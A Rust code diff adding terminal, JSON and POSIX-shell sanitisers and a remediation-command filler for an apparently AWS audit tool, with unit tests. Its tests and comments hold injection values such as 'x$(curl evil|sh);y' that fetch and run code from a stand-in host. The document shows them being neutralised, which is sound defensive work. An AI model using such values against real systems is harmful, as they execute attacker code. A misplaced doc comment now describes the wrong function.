@@ -21,11 +21,63 @@ pub fn terminal_text(text: &str) -> String {
         .collect()
 }
 
+/// One field of a line printed to a terminal (a name, a reason): as
+/// [`terminal_text`], and line breaks too become `?`, so a value can never
+/// start a line of its own (a forged "audit fingerprint" line).
+pub fn terminal_field(text: &str) -> String {
+    text.chars()
+        .map(|c| {
+            if c.is_control() || is_bidi_control(c) {
+                '?'
+            } else {
+                c
+            }
+        })
+        .collect()
+}
+
+/// One line to print, ending in a newline: every value in it as
+/// [`terminal_field`], so it stays one line.
+pub fn terminal_line(text: &str) -> String {
+    let mut line = terminal_field(text.strip_suffix('\n').unwrap_or(text));
+    line.push('\n');
+    line
+}
+
+/// JSON text safe to print: the C1 controls and bidi controls serde_json
+/// leaves as they are (it escapes only C0) become `\uXXXX` escapes, which
+/// any JSON reader turns back into the same string.
+pub fn json_for_terminal(json: &str) -> String {
+    let mut out = String::with_capacity(json.len());
+    for c in json.chars() {
+        if (c.is_control() && c != '\n') || is_bidi_control(c) || c == '\u{2028}' || c == '\u{2029}'
+        {
+            out.push_str(&format!("\\u{:04x}", u32::from(c)));
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
 /// Text as inert Markdown, for a table cell or a list item: every ASCII
 /// punctuation mark is backslash-escaped (so no heading, emphasis, link,
 /// image, code span, table cell break or autolink can start), `<`, `>` and
 /// `&` become entities (no raw HTML), control characters are dropped and
 /// line breaks become spaces.
+/// `text` cut to at most `max_bytes` bytes on a character boundary, with
+/// a note of how much was cut when it was.
+pub fn clip_bytes(text: &str, max_bytes: usize) -> String {
+    if text.len() <= max_bytes {
+        return text.to_string();
+    }
+    let mut end = max_bytes;
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}… ({} more bytes)", &text[..end], text.len() - end)
+}
+
 pub fn md(text: &str) -> String {
     let mut out = String::with_capacity(text.len() + 8);
     for c in text.chars() {
@@ -73,6 +125,32 @@ pub fn neutralise_cell(cell: &str) -> std::borrow::Cow<'_, str> {
     }
 }
 
+/// `value` as one inert POSIX shell word: as it is when it holds only the
+/// characters of AWS ids and names (`ami-0a1b`, `/golden/al2023`),
+/// single-quoted otherwise (an Auto Scaling group may be named
+/// `x$(id);curl evil|sh`). Every format that fills a remediation command
+/// quotes through here.
+pub fn shell_word(value: &str) -> std::borrow::Cow<'_, str> {
+    let plain = !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_.:/@=+,%".contains(c));
+    if plain {
+        std::borrow::Cow::Borrowed(value)
+    } else {
+        std::borrow::Cow::Owned(format!("'{}'", value.replace('\'', "'\\''")))
+    }
+}
+
+/// A remediation command with a finding's identifiers filled in, each as
+/// one shell word ([`shell_word`]).
+pub fn fill_command(command: &str, account_id: &str, region: &str, resource_id: &str) -> String {
+    command
+        .replace("{account_id}", &shell_word(account_id))
+        .replace("{region}", &shell_word(region))
+        .replace("{resource_id}", &shell_word(resource_id))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -105,5 +183,34 @@ mod tests {
         assert_eq!(neutralise_cell("=1+1"), "'=1+1");
         assert_eq!(neutralise_cell("-2"), "'-2");
         assert_eq!(neutralise_cell("ami-1"), "ami-1");
+    }
+
+    #[test]
+    fn ids_stay_as_they_are_and_anything_else_is_one_inert_word() {
+        assert_eq!(shell_word("ami-0a1b2c3d"), "ami-0a1b2c3d");
+        assert_eq!(shell_word("/golden/al2023/latest"), "/golden/al2023/latest");
+        assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
+        assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word(""), "''");
+    }
+
+    #[test]
+    fn every_identifier_of_a_command_is_one_word() {
+        assert_eq!(
+            fill_command(
+                "aws autoscaling start-instance-refresh --region {region} --auto-scaling-group-name {resource_id}",
+                "111111111111",
+                "eu-west-1",
+                "x$(curl evil|sh);y"
+            ),
+            "aws autoscaling start-instance-refresh --region eu-west-1 --auto-scaling-group-name 'x$(curl evil|sh);y'"
+        );
+    }
+
+    #[test]
+    fn clip_cuts_on_a_character_boundary() {
+        assert_eq!(clip_bytes("short", 10), "short");
+        assert_eq!(clip_bytes("ééé", 3), "é… (4 more bytes)");
     }
 }
